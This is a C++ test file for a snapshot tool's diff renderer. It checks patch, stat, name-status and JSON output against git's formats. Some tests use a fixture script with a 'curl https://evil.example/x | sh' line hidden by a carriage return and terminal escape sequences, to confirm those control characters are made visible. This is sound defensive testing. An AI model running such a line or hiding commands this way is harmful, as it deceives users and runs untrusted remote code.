// Tests for src/snapshot/diff.cpp. Contents are real blobs in a real store in a fresh
// temp dir; the output is rendered into memory and compared byte for byte. The expected
// patches and stats are what `git diff` prints for the same files.
#include <doctest/doctest.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <optional>
#include <string>
#include <vector>

#include "snapshot/diff.hpp"
#include "store/store.hpp"
#include "testutil.hpp"

using namespace zb::snapshot;
using zb::store::Change;
using zb::store::ChangeKind;
using zb::store::FileMeta;
using zb::store::FileType;
using zb::store::Store;
using zb::test::TempDir;

namespace {

constexpr const char* k_cwd = "/home/u/proj";

struct Fixture {
  TempDir tmp;
  Store store = open();

  Store open() {
    auto s = Store::open(tmp / "store");
    REQUIRE_MESSAGE(s.has_value(), (s ? "" : s.error().message()));
    return std::move(*s);
  }

  // Puts content into the store and returns its hash.
  std::string blob(const std::string& content) {
    std::string src = tmp / "src.tmp";
    zb::test::write_file(src, content);
    zb::UniqueFd fd(::open(src.c_str(), O_RDONLY | O_CLOEXEC));
    REQUIRE(fd);
    auto b = store.put_blob_from_fd(fd.get());
    REQUIRE_MESSAGE(b.has_value(), (b ? "" : b.error().message()));
    return b->hash;
  }

  std::string render(const std::vector<Change>& changes, DiffOptions options = {}) {
    if (options.cwd.empty()) options.cwd = k_cwd;
    char* buf = nullptr;
    std::size_t len = 0;
    std::FILE* f = ::open_memstream(&buf, &len);
    REQUIRE(f != nullptr);
    auto r = write_diff(f, store, changes, options);
    std::fclose(f);
    std::string out(buf, len);
    std::free(buf);
    REQUIRE_MESSAGE(r.has_value(), (r ? "" : r.error().message()));
    return out;
  }

  std::string render(const std::vector<Change>& changes, DiffFormat format) {
    DiffOptions o;
    o.format = format;
    return render(changes, o);
  }
};

std::string in_cwd(const std::string& rel) { return std::string(k_cwd) + "/" + rel; }

Change file_change(ChangeKind kind, const std::string& path, std::optional<std::string> old_blob,
                   std::optional<std::string> new_blob, std::uint32_t old_mode = 0644, std::uint32_t new_mode = 0644) {
  Change c;
  c.kind = kind;
  c.path = path;
  if (kind != ChangeKind::Added)
    c.before = FileMeta{.type = FileType::Regular, .mode = old_mode, .blob = std::move(old_blob)};
  if (kind != ChangeKind::Deleted)
    c.after = FileMeta{.type = FileType::Regular, .mode = new_mode, .blob = std::move(new_blob)};
  return c;
}

Change modified(Fixture& fx, const std::string& path, const std::string& before, const std::string& after) {
  Change c = file_change(ChangeKind::Modified, path, fx.blob(before), fx.blob(after));
  c.before->size = static_cast<std::int64_t>(before.size());
  c.after->size = static_cast<std::int64_t>(after.size());
  return c;
}

Change added(Fixture& fx, const std::string& path, const std::string& content, std::uint32_t mode = 0644) {
  Change c = file_change(ChangeKind::Added, path, std::nullopt, fx.blob(content), 0, mode);
  c.after->size = static_cast<std::int64_t>(content.size());
  return c;
}

std::string numbered_lines(int from, int to) {
  std::string s;
  for (int i = from; i <= to; ++i) s += "line " + std::to_string(i) + "\n";
  return s;
}

}  // namespace

TEST_CASE("diff: git_quote quotes as git does with core.quotePath") {
  CHECK(git_quote("plain/path-1_2.txt") == "plain/path-1_2.txt");
  CHECK(git_quote("with space") == "with space");
  CHECK(git_quote("a\nb") == "\"a\\nb\"");
  CHECK(git_quote("t\tb\\q\"") == "\"t\\tb\\\\q\\\"\"");
  CHECK(git_quote("\a\b\v\f\r") == "\"\\a\\b\\v\\f\\r\"");
  CHECK(git_quote(std::string("\x01\x1f\x7f", 3)) == "\"\\001\\037\\177\"");
  CHECK(git_quote("caf\xc3\xa9") == "\"caf\\303\\251\"");
  CHECK(git_quote("b/\xff") == "\"b/\\377\"");
  CHECK(git_quote("") == "");
}

TEST_CASE("diff: modified text file gives unified hunks with 3 lines of context") {
  Fixture fx;
  SUBCASE("one hunk") {
    auto c = modified(fx, in_cwd("src/f.txt"), "a\nb\nc\nd\ne\nf\ng\nh\n", "a\nb\nc\nD\ne\nf\ng\nh\n");
    CHECK(fx.render({c}) ==
          "diff --git a/src/f.txt b/src/f.txt\n"
          "--- a/src/f.txt\n"
          "+++ b/src/f.txt\n"
          "@@ -1,7 +1,7 @@\n"
          " a\n"
          " b\n"
          " c\n"
          "-d\n"
          "+D\n"
          " e\n"
          " f\n"
          " g\n");
  }
  SUBCASE("changes 7 lines apart make two hunks, 6 apart one") {
    std::string before = numbered_lines(1, 30);
    std::string after = before;
    after.replace(after.find("line 5\n"), 7, "five\n");
    after.replace(after.find("line 13\n"), 8, "");                // 7 unchanged lines after 5
    after.replace(after.find("line 20\n"), 8, "twenty\nmore\n");  // 6 unchanged after 13
    auto c = modified(fx, in_cwd("n.txt"), before, after);
    CHECK(fx.render({c}) ==
          "diff --git a/n.txt b/n.txt\n"
          "--- a/n.txt\n"
          "+++ b/n.txt\n"
          "@@ -2,7 +2,7 @@\n"
          " line 2\n"
          " line 3\n"
          " line 4\n"
          "-line 5\n"
          "+five\n"
          " line 6\n"
          " line 7\n"
          " line 8\n"
          "@@ -10,14 +10,14 @@\n"
          " line 10\n"
          " line 11\n"
          " line 12\n"
          "-line 13\n"
          " line 14\n"
          " line 15\n"
          " line 16\n"
          " line 17\n"
          " line 18\n"
          " line 19\n"
          "-line 20\n"
          "+twenty\n"
          "+more\n"
          " line 21\n"
          " line 22\n"
          " line 23\n");
  }
  SUBCASE("a path outside cwd is shown absolutely, behind a/ with one slash") {
    auto c = modified(fx, "/etc/x.conf", "k=1\n", "k=2\n");
    CHECK(fx.render({c}) ==
          "diff --git a/etc/x.conf b/etc/x.conf\n"
          "--- a/etc/x.conf\n"
          "+++ b/etc/x.conf\n"
          "@@ -1 +1 @@\n"
          "-k=1\n"
          "+k=2\n");
    CHECK(fx.render({c}, DiffFormat::NameStatus) == "M\t/etc/x.conf\n");
  }
}

TEST_CASE("diff: file without a trailing newline") {
  Fixture fx;
  SUBCASE("newline added") {
    auto c = modified(fx, in_cwd("c"), "a\nb", "a\nb\n");
    CHECK(fx.render({c}) ==
          "diff --git a/c b/c\n"
          "--- a/c\n"
          "+++ b/c\n"
          "@@ -1,2 +1,2 @@\n"
          " a\n"
          "-b\n"
          "\\ No newline at end of file\n"
          "+b\n");
  }
  SUBCASE("last line changed, neither side ends in a newline") {
    auto c = modified(fx, in_cwd("c"), "a\nb", "a\nc");
    CHECK(fx.render({c}) ==
          "diff --git a/c b/c\n"
          "--- a/c\n"
          "+++ b/c\n"
          "@@ -1,2 +1,2 @@\n"
          " a\n"
          "-b\n"
          "\\ No newline at end of file\n"
          "+c\n"
          "\\ No newline at end of file\n");
  }
}

TEST_CASE("diff: added and deleted files") {
  Fixture fx;
  SUBCASE("added") {
    auto c = added(fx, in_cwd("new.txt"), "hello\nworld\n");
    CHECK(fx.render({c}) ==
          "diff --git a/new.txt b/new.txt\n"
          "new file mode 100644\n"
          "--- /dev/null\n"
          "+++ b/new.txt\n"
          "@@ -0,0 +1,2 @@\n"
          "+hello\n"
          "+world\n");
  }
  SUBCASE("added empty file: header only, as git") {
    auto c = added(fx, in_cwd("empty"), "");
    CHECK(fx.render({c}) == "diff --git a/empty b/empty\nnew file mode 100644\n");
  }
  SUBCASE("deleted executable") {
    Change c = file_change(ChangeKind::Deleted, in_cwd("old.sh"), fx.blob("x\n"), std::nullopt, 0755);
    CHECK(fx.render({c}) ==
          "diff --git a/old.sh b/old.sh\n"
          "deleted file mode 100755\n"
          "--- a/old.sh\n"
          "+++ /dev/null\n"
          "@@ -1 +0,0 @@\n"
          "-x\n");
  }
}

TEST_CASE("diff: mode change") {
  Fixture fx;
  std::string h = fx.blob("#!/bin/sh\n");
  Change c = file_change(ChangeKind::ModeChanged, in_cwd("run.sh"), h, h, 0644, 0755);
  CHECK(fx.render({c}) ==
        "diff --git a/run.sh b/run.sh\n"
        "old mode 100644\n"
        "new mode 100755\n");
  CHECK(fx.render({c}, DiffFormat::NameStatus) == "M\trun.sh\n");

  SUBCASE("owner only") {
    c.after->mode = 0644;
    c.before->uid = c.before->gid = 1000;
    c.after->uid = 0;
    c.after->gid = 1000;
    CHECK(fx.render({c}) ==
          "diff --git a/run.sh b/run.sh\n"
          "old owner 1000:1000\n"
          "new owner 0:1000\n");
  }
  SUBCASE("modified with a mode change shows both") {
    c.kind = ChangeKind::Modified;
    c.after->blob = fx.blob("#!/bin/bash\n");
    c.after->mode = 0700;
    CHECK(fx.render({c}) ==
          "diff --git a/run.sh b/run.sh\n"
          "old mode 100644\n"
          "new mode 100700\n"
          "--- a/run.sh\n"
          "+++ b/run.sh\n"
          "@@ -1 +1 @@\n"
          "-#!/bin/sh\n"
          "+#!/bin/bash\n");
  }
}

TEST_CASE("diff: symlinks diff their targets") {
  Fixture fx;
  Change c;
  c.kind = ChangeKind::Modified;
  c.path = in_cwd("link");
  c.before = c.after = FileMeta{.type = FileType::Symlink, .mode = 0777};
  c.before->link = "target-a";
  c.after->link = "target-b";
  CHECK(fx.render({c}) ==
        "diff --git a/link b/link\n"
        "--- a/link\n"
        "+++ b/link\n"
        "@@ -1 +1 @@\n"
        "-target-a\n"
        "\\ No newline at end of file\n"
        "+target-b\n"
        "\\ No newline at end of file\n");
}

TEST_CASE("diff: type change is a deletion then an addition") {
  Fixture fx;
  Change c;
  c.kind = ChangeKind::TypeChanged;
  c.path = in_cwd("p");
  c.before = FileMeta{.type = FileType::Regular, .mode = 0644, .size = 8, .blob = fx.blob("content\n")};
  c.after = FileMeta{.type = FileType::Symlink, .mode = 0777, .size = 4, .link = "dest"};
  CHECK(fx.render({c}) ==
        "diff --git a/p b/p\n"
        "deleted file mode 100644\n"
        "--- a/p\n"
        "+++ /dev/null\n"
        "@@ -1 +0,0 @@\n"
        "-content\n"
        "diff --git a/p b/p\n"
        "new file mode 120000\n"
        "--- /dev/null\n"
        "+++ b/p\n"
        "@@ -0,0 +1 @@\n"
        "+dest\n"
        "\\ No newline at end of file\n");
  CHECK(fx.render({c}, DiffFormat::NameStatus) == "T\tp\n");
  CHECK(fx.render({c}, DiffFormat::Stat) == " p | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)\n");
}

TEST_CASE("diff: directories and special files are header lines only") {
  Fixture fx;
  Change dir;
  dir.kind = ChangeKind::Added;
  dir.path = in_cwd("d");
  dir.after = FileMeta{.type = FileType::Directory, .mode = 0755};
  Change fifo;
  fifo.kind = ChangeKind::Deleted;
  fifo.path = in_cwd("d/pipe");
  fifo.before = FileMeta{.type = FileType::Fifo, .mode = 0600};
  CHECK(fx.render({dir, fifo}) ==
        "diff --git a/d b/d\n"
        "new file mode 040755\n"
        "diff --git a/d/pipe b/d/pipe\n"
        "deleted file mode 010600\n");
  CHECK(fx.render({dir, fifo}, DiffFormat::Stat) ==
        " d      | 0\n"
        " d/pipe | 0\n"
        " 2 files changed, 0 insertions(+), 0 deletions(-)\n");
}

TEST_CASE("diff: binary files") {
  Fixture fx;
  auto c = modified(fx, in_cwd("bin.dat"), std::string("a\0b", 3), std::string("a\0cd", 4));
  CHECK(fx.render({c}) ==
        "diff --git a/bin.dat b/bin.dat\n"
        "Binary files a/bin.dat and b/bin.dat differ\n");
  CHECK(fx.render({c}, DiffFormat::Stat) ==
        " bin.dat | Bin 3 -> 4 bytes\n"
        " 1 file changed, 0 insertions(+), 0 deletions(-)\n");

  SUBCASE("a NUL on one side is enough") {
    auto d = modified(fx, in_cwd("half"), "text\n", std::string("\0", 1));
    CHECK(fx.render({d}) == "diff --git a/half b/half\nBinary files a/half and b/half differ\n");
  }
  SUBCASE("a NUL after the first 8000 bytes is not looked for, as in git") {
    std::string late(8000, 'x');
    late += std::string("\0\n", 2);
    auto d = added(fx, in_cwd("late"), late);
    std::string out = fx.render({d});
    CHECK(out.find("Binary files") == std::string::npos);
    CHECK(out.find("@@ -0,0 +1 @@\n") != std::string::npos);
  }
  SUBCASE("added binary") {
    auto d = added(fx, in_cwd("new.bin"), std::string("\0\1", 2));
    CHECK(fx.render({d}) ==
          "diff --git a/new.bin b/new.bin\n"
          "new file mode 100644\n"
          "Binary files /dev/null and b/new.bin differ\n");
  }
  SUBCASE("a blob the store does not have") {
    Change d = modified(fx, in_cwd("gone"), "x\n", "y\n");
    d.before->blob = std::string(32, '0');
    CHECK(fx.render({d}) ==
          "diff --git a/gone b/gone\n"
          "Files a/gone and b/gone differ (contents not kept)\n");
    CHECK(fx.render({d}, DiffFormat::Stat) ==
          " gone | Bin 2 -> 2 bytes\n"
          " 1 file changed, 0 insertions(+), 0 deletions(-)\n");
  }
}

TEST_CASE("diff: stat lines and summary as git diff --stat") {
  Fixture fx;
  std::string h = fx.blob("#!/bin/sh\n");
  std::vector<Change> changes = {
      modified(fx, in_cwd("src/f.txt"), "a\nb\nc\n", "a\nB\nc\n"),
      added(fx, in_cwd("new.txt"), "1\n2\n"),
      file_change(ChangeKind::ModeChanged, in_cwd("run.sh"), h, h, 0644, 0755),
  };
  CHECK(fx.render(changes, DiffFormat::Stat) ==
        " src/f.txt | 2 +-\n"
        " new.txt   | 2 ++\n"
        " run.sh    | 0\n"
        " 3 files changed, 3 insertions(+), 1 deletion(-)\n");
  CHECK(fx.render({changes[1]}, DiffFormat::Stat) == " new.txt | 2 ++\n 1 file changed, 2 insertions(+)\n");
  CHECK(fx.render({changes[2]}, DiffFormat::Stat) == " run.sh | 0\n 1 file changed, 0 insertions(+), 0 deletions(-)\n");
  Change gone = file_change(ChangeKind::Deleted, in_cwd("g"), fx.blob("x\n"), std::nullopt);
  CHECK(fx.render({gone}, DiffFormat::Stat) == " g | 1 -\n 1 file changed, 1 deletion(-)\n");
  CHECK(fx.render({}, DiffFormat::Stat).empty());

  SUBCASE("the graph is scaled to 80 columns") {
    auto big = added(fx, in_cwd("big.txt"), numbered_lines(1, 200));
    CHECK(fx.render({big}, DiffFormat::Stat) ==
          " big.txt | 200 " + std::string(64, '+') + "\n 1 file changed, 200 insertions(+)\n");
  }
  SUBCASE("a long name keeps its end behind ...") {
    std::string name(100, 'n');
    auto c = modified(fx, in_cwd("dir/" + name + "/f"), "a\n", "b\n");
    // The name gets 80 - 1 (count) - 6 - 2 (graph) = 71 columns; git cuts it to its
    // last 68, then drops what comes before the first slash there.
    CHECK(fx.render({c}, DiffFormat::Stat) ==
          " .../f" + std::string(66, ' ') + " | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)\n");
  }
}

TEST_CASE("diff: name-status and json of odd names") {
  Fixture fx;
  // A newline and a byte that is not UTF-8 in the name.
  auto c = added(fx, std::string("/t/a\nb\xff.txt"), "x\n");
  DiffOptions o;
  o.cwd = "/t";
  o.format = DiffFormat::NameStatus;
  CHECK(fx.render({c}, o) == "A\t\"a\\nb\\377.txt\"\n");

  o.format = DiffFormat::Patch;
  CHECK(fx.render({c}, o).starts_with("diff --git \"a/a\\nb\\377.txt\" \"b/a\\nb\\377.txt\"\n"));

  Change odd;
  odd.kind = ChangeKind::Deleted;
  odd.path = "/t/\xff";  // base64 L3Qv/w==
  odd.before = FileMeta{.type = FileType::Symlink,
                        .mode = 0777,
                        .size = 2,
                        .mtime_ns = 123,
                        .uid = 1000,
                        .gid = 100,
                        .link = "\xfe\x80"};  // base64 /oA=
  o.format = DiffFormat::Json;
  o.session_id = "0123456789abcdef0123456789abcdef";
  CHECK(fx.render({odd, c}, o) ==
        "{\"session\":\"0123456789abcdef0123456789abcdef\",\"changes\":["
        "{\"path_b64\":\"L3Qv/w==\",\"kind\":\"deleted\",\"old_type\":\"symlink\",\"new_type\":null,"
        "\"old_mode\":511,\"new_mode\":null,\"old_size\":2,\"new_size\":null,\"old_link_b64\":\"/oA=\","
        "\"new_link\":null,\"old_mtime_ns\":123,\"new_mtime_ns\":null,\"old_uid\":1000,\"old_gid\":100,"
        "\"new_uid\":null,\"new_gid\":null},"
        "{\"path_b64\":\"L3QvYQpi/y50eHQ=\",\"kind\":\"added\",\"old_type\":null,\"new_type\":\"file\","
        "\"old_mode\":null,\"new_mode\":420,\"old_size\":null,\"new_size\":2,\"old_link\":null,"
        "\"new_link\":null,\"old_mtime_ns\":null,\"new_mtime_ns\":null,\"old_uid\":null,\"old_gid\":null,"
        "\"new_uid\":null,\"new_gid\":null}]}\n");

  SUBCASE("UTF-8 names and targets stay plain") {
    Change u;
    u.kind = ChangeKind::Added;
    u.path = "/t/caf\xc3\xa9\n";
    u.after = FileMeta{.type = FileType::Symlink, .link = "\xc3\xa9"};
    std::string out = fx.render({u}, o);
    CHECK(out.find("\"path\":\"/t/caf\xc3\xa9\\n\"") != std::string::npos);
    CHECK(out.find("\"new_link\":\"\xc3\xa9\"") != std::string::npos);
    o.format = DiffFormat::NameStatus;
    CHECK(fx.render({u}, o) == "A\t\"caf\\303\\251\\n\"\n");
  }
}

TEST_CASE("diff: filters select paths at or under them") {
  Fixture fx;
  std::vector<Change> changes = {
      added(fx, in_cwd("a/x"), "1\n"),
      added(fx, in_cwd("ab/y"), "2\n"),
      added(fx, in_cwd("a"), "3\n"),
      added(fx, in_cwd("b/z"), "4\n"),
  };
  DiffOptions o;
  o.format = DiffFormat::NameStatus;
  o.filters = {in_cwd("a")};
  CHECK(fx.render(changes, o) == "A\ta/x\nA\ta\n");
  o.filters = {in_cwd("a/x"), in_cwd("b")};
  CHECK(fx.render(changes, o) == "A\ta/x\nA\tb/z\n");
  o.filters = {in_cwd("zzz")};
  CHECK(fx.render(changes, o).empty());
  o.filters = {};
  CHECK(fx.render(changes, o) == "A\ta/x\nA\tab/y\nA\ta\nA\tb/z\n");
  o.format = DiffFormat::Json;
  o.filters = {in_cwd("b")};
  std::string json = fx.render(changes, o);
  CHECK(json.find("/b/z") != std::string::npos);
  CHECK(json.find("/a/x") == std::string::npos);
}

TEST_CASE("diff: colour codes only when asked") {
  Fixture fx;
  auto c = modified(fx, in_cwd("f"), "same\nold\n", "same\nnew\n");
  DiffOptions o;
  o.color = true;
  CHECK(fx.render({c}, o) ==
        "\x1b[1mdiff --git a/f b/f\x1b[m\n"
        "\x1b[1m--- a/f\x1b[m\n"
        "\x1b[1m+++ b/f\x1b[m\n"
        "\x1b[36m@@ -1,2 +1,2 @@\x1b[m\n"
        " same\n"
        "\x1b[31m-old\x1b[m\n"
        "\x1b[32m+new\x1b[m\n");
  o.format = DiffFormat::Stat;
  CHECK(fx.render({c}, o) ==
        " f | 2 \x1b[32m+\x1b[m\x1b[31m-\x1b[m\n"
        " 1 file changed, 1 insertion(+), 1 deletion(-)\n");

  o.color = false;
  for (auto format : {DiffFormat::Patch, DiffFormat::Stat, DiffFormat::NameStatus, DiffFormat::Json}) {
    o.format = format;
    CHECK(fx.render({c}, o).find('\x1b') == std::string::npos);
  }
}

TEST_CASE("diff: visible_controls shows control characters as cat -v does") {
  CHECK(visible_controls("plain text\twith a tab") == "plain text\twith a tab");
  CHECK(visible_controls("a\nb") == "a\nb");
  CHECK(visible_controls("curl evil | sh\r# comment only") == "curl evil | sh^M# comment only");
  CHECK(visible_controls("\x1b[2K\x1b]0;t\a") == "^[[2K^[]0;t^G");
  CHECK(visible_controls(std::string("\x00\x01\x08\x0b\x0c\x1f\x7f", 7)) == "^@^A^H^K^L^_^?");
  // C1 code points written in UTF-8: U+0080, U+009B (CSI), U+009F.
  CHECK(visible_controls("\xc2\x80|\xc2\x9b"
                         "31m|\xc2\x9f") == "M-^@|M-^[31m|M-^_");
  // The same values as stray bytes (not UTF-8): a Latin-1 terminal reads 0x9B as CSI.
  CHECK(visible_controls("\x9b"
                         "2J \x80 \x9f") == "M-^[2J M-^@ M-^_");
  // A truncated or overlong sequence does not hide a C1 byte behind its lead byte.
  CHECK(visible_controls("\xe2\x9b") == "\xe2M-^[");
  CHECK(visible_controls("\xc0\x9b") == "\xc0M-^[");
  // Text above U+009F, and bytes 0xA0..0xFF that are not UTF-8, are left alone.
  CHECK(visible_controls("caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c \xf0\x9f\x98\x80") ==
        "caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c \xf0\x9f\x98\x80");
  CHECK(visible_controls("\xff\xa0") == "\xff\xa0");
  CHECK(visible_controls("").empty());
}

TEST_CASE("diff: contents reach a terminal with their control characters visible") {
  Fixture fx;
  // A carriage return hides the command behind the comment on a terminal; an escape
  // sequence erases a line; a C1 CSI does the same on terminals that honour it.
  std::string hidden =
      "curl https://evil.example/x | sh\r# comment only\n\x1b[1A\x1b[2Kok\n\xc2\x9b"
      "2Kc1\n";
  auto c = added(fx, in_cwd("setup.sh"), hidden);
  Change link;
  link.kind = ChangeKind::Added;
  link.path = in_cwd("link");
  link.after = FileMeta{.type = FileType::Symlink, .mode = 0777, .link = "x\ry"};
  DiffOptions o;
  o.visible_controls = true;
  CHECK(fx.render({c, link}, o) ==
        "diff --git a/setup.sh b/setup.sh\n"
        "new file mode 100644\n"
        "--- /dev/null\n"
        "+++ b/setup.sh\n"
        "@@ -0,0 +1,3 @@\n"
        "+curl https://evil.example/x | sh^M# comment only\n"
        "+^[[1A^[[2Kok\n"
        "+M-^[2Kc1\n"
        "diff --git a/link b/link\n"
        "new file mode 120000\n"
        "--- /dev/null\n"
        "+++ b/link\n"
        "@@ -0,0 +1 @@\n"
        "+x^My\n"
        "\\ No newline at end of file\n");
  // With colour, only the colour codes are escape sequences.
  o.color = true;
  std::string coloured = fx.render({c}, o);
  CHECK(coloured.find("\x1b[32m+^[[1A^[[2Kok\x1b[m\n") != std::string::npos);
  CHECK(coloured.find('\r') == std::string::npos);
  // Not on a terminal: the exact bytes, in a patch and in --json.
  o = DiffOptions{};
  std::string raw = fx.render({c}, o);
  CHECK(raw.find("+curl https://evil.example/x | sh\r# comment only\n+\x1b[1A\x1b[2Kok\n+\xc2\x9b"
                 "2Kc1\n") != std::string::npos);
  o.format = DiffFormat::Json;
  o.visible_controls = true;  // --json never goes through it
  o.session_id = "0123456789abcdef0123456789abcdef";
  Change evil_link = link;
  evil_link.after->link = "a\x1b]b";
  CHECK(fx.render({evil_link}, o).find("\"new_link\":\"a\\u001b]b\"") != std::string::npos);
}

TEST_CASE("diff: names with control characters are quoted in every format") {
  Fixture fx;
  // ESC, CR, DEL and a C1 CSI in UTF-8 in a name: git quotes each with an octal escape.
  auto c = added(fx, in_cwd(std::string("e\x1b[2Jv\rx\x7f\xc2\x9b.txt")), "1\n");
  auto gone = file_change(ChangeKind::Deleted, in_cwd("old\rname"), fx.blob("same\n"), std::nullopt);
  auto moved = added(fx, in_cwd("new\x1bname"), "same\n");
  const std::string quoted = "e\\033[2Jv\\rx\\177\\302\\233.txt";
  DiffOptions o;
  o.visible_controls = true;
  for (auto format : {DiffFormat::Patch, DiffFormat::Stat, DiffFormat::NameStatus}) {
    o.format = format;
    std::string out = fx.render({c, gone, moved}, o);
    INFO(out);
    CHECK(out.find(quoted) != std::string::npos);
    for (char ch : out) {
      auto u = static_cast<unsigned char>(ch);
      CHECK_FALSE(((u < 0x20 && u != '\n' && u != '\t') || (u >= 0x7f && u <= 0x9f)));
    }
  }
  o.format = DiffFormat::Patch;
  std::string patch = fx.render({c, gone, moved}, o);
  CHECK(patch.find("rename from \"old\\rname\"\nrename to \"new\\033name\"\n") != std::string::npos);
}

TEST_CASE("diff: --json escapes DEL and C1 as \\u00XX, keeping the same value") {
  CHECK(json_escape_controls("{\"a\":\"x\x7fy\xc2\x9bz\xc2\x80\xc2\x9f\"}") ==
        "{\"a\":\"x\\u007fy\\u009bz\\u0080\\u009f\"}");
  CHECK(json_escape_controls("\"caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c\"") == "\"caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c\"");
  CHECK(json_escape_controls("\xc2") == "\xc2");
  Fixture fx;
  Change c;
  c.kind = ChangeKind::Added;
  c.path = "/t/d\x7f\xc2\x9b";
  c.after = FileMeta{.type = FileType::Symlink, .mode = 0777, .link = "\x1b\xc2\x85"};
  DiffOptions o;
  o.format = DiffFormat::Json;
  o.session_id = "0123456789abcdef0123456789abcdef";
  std::string out = fx.render({c}, o);
  CHECK(out.find("\"path\":\"/t/d\\u007f\\u009b\"") != std::string::npos);
  CHECK(out.find("\"new_link\":\"\\u001b\\u0085\"") != std::string::npos);
}
